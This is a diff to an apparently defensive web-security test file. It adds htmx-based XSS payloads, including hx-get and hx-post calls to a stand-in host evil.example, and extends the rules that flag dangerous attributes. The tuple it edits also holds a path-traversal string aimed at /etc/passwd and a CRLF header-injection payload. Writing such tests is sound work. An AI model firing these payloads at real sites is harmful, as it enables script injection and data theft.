@@ -9,6 +9,8 @@ ATTACKS = (
     '"><img src=x onerror=document.title="owned">',
     "'><svg onload=document.title='owned'>",
     '" autofocus onfocus="document.title=`owned`" x="',
+    '" hx-get="//evil.example/x" hx-trigger="load" hx-on:load="document.title=`owned`" x="',
+    "<b hx-post=//evil.example/x hx-trigger=load></b><hx-partial hx-target=body>owned</hx-partial>",
     "<iframe srcdoc='<script>parent.document.title=1</script>'></iframe>",
     "<a href=\"javascript:document.title='owned'\">a link</a>",
     "javascript:document.title='owned'",
@@ -29,8 +31,8 @@ ATTACKS = (
     "..\\..\\../../etc/passwd",
     "\r\nset-cookie: owned=1\r\n\r\n<script>document.title='owned'</script>",
 )
-_SCRIPTS = {"/static/theme.js", "/static/desk.js", "/static/work.js"}
-_ADDRESSES = {"href", "src", "action", "formaction", "xlink:href"}
+_SCRIPTS = {"/static/theme.js", "/static/htmx/htmx.min.js", "/static/desk.js", "/static/drop.js"}
+_ADDRESSES = {"href", "src", "action", "formaction", "xlink:href", "hx-get", "hx-post", "hx-action"}
 _NEVER = {"iframe", "object", "embed", "base", "math", "img", "style", "frame", "applet", "audio", "video"}
 
 
@@ -55,4 +57,4 @@ def _works(name: str, value: str) -> bool:
     if name in _ADDRESSES:
         plain = "".join(value.split()).casefold()
         return not plain.startswith(("/", "#", "?")) or plain.startswith(("//", "/\\"))
-    return name.startswith("on") or name in ("style", "srcdoc")
+    return name.startswith(("on", "hx-on")) or name in ("style", "srcdoc")
